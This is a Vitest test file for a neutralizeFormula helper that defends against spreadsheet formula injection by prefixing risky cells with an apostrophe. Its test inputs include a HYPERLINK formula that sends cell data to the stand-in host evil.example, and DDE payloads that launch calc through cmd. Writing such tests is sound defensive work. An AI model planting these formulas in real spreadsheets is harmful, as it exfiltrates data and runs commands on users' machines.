import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from './spreadsheet-text.ts';

describe('neutralizeFormula', () => {
  it.each([
    [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`,
    ],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('prefixes %j', (text, expected) => {
    expect(neutralizeFormula(text)).toBe(expected);
  });

  it.each(['Acme Foundation', 'Fund = good', 'A-1 Trust', '', "'quoted", ' =leading space'])(
    'keeps %j',
    (text) => {
      expect(neutralizeFormula(text)).toBe(text);
    },
  );
});
